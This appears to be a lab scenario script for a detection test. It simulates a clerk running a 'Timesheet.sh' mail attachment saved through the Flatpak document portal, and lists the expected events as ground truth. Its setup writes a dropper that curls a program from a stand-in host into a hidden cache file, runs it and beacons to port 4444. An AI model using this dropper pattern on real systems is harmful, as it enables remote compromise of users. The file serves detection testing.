# The sandboxed client never sees the folder: the documents portal writes there for it.
title="Attachment saved through the documents portal, run from a terminal"
what="Thunderbird as a Flatpak application sees nothing of the home but its own folder; it reads the mailbox over IMAP from Dovecot on the host itself. The clerk saves Timesheet.sh; the dialogue is xdg-desktop-portal's, outside of the sandbox, and the client is handed a document below /run/user/1003/doc. xdg-document-portal, over FUSE, writes it to ~/Documents. The clerk runs it with bash where the client shows it, below /run/user/1003/doc; it fetches a program from 203.0.113.66 and starts it."
host=ws3.example.org user=clerk daemons="cron sshd dovecot"

setup() {
  dovecot_config; flatpak_thunderbird || return 1
  printf '#!/bin/bash\ncurl -s -o "$HOME/.cache/.ts" http://drop.example.net/ts\nchmod +x "$HOME/.cache/.ts"\n"$HOME/.cache/.ts" 203.0.113.67 4444\ntouch "$HOME/.cache/ts-done"\n' > "$base/out/Timesheet.sh"
  cc -O1 -o "$base/out/www/ts" "$lab/lib/stand-ins/beacon.c"
  install -d -o clerk -g clerk /home/clerk/.cache /home/clerk/Documents
  mknod -m 666 "$base/dev/fuse" c 10 229
}
act() {
  display_up
  user_manager clerk
  small_talk 2
  mail_in --from payroll@example.com --to clerk@example.org --subject "Timesheet" --source 203.0.113.25 --helo smtp.example.com --attach "$base/out/Timesheet.sh:text/x-shellscript"
  wait_log 'from=<payroll@example.com>'; wait_mail clerk 1; sleep 1
  flatpak_thunderbird_ask clerk Timesheet.sh /home/clerk/Documents/Timesheet.sh
  sleep 2
  ssh_as clerk <<'L'
ls -l Documents
bash /run/user/1003/doc/*[0-9a-f]/Timesheet.sh
L
  wait_file /home/clerk/.cache/ts-done 10
  small_talk 1
  user_managers_down
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'the message is delivered'
  exec_step sandbox 'bwrap ' 'flatpak builds the sandbox'
  exec_step client '/app/lib/thunderbird/thunderbird' 'the client starts in it'
  file_step save 'xdg-document-portal openat:write CREATE /home/clerk/Documents/Timesheet.sh' 'the portal writes the document for it'
  exec_step execute 'bash /run/user/1003/doc/[0-9a-f]+/Timesheet.sh' 'the document is run'
  net_step fetch 'curl 203.0.113.66:80' 'it fetches a program'
  net_step beacon '203.0.113.67:4444' 'which calls out'
}
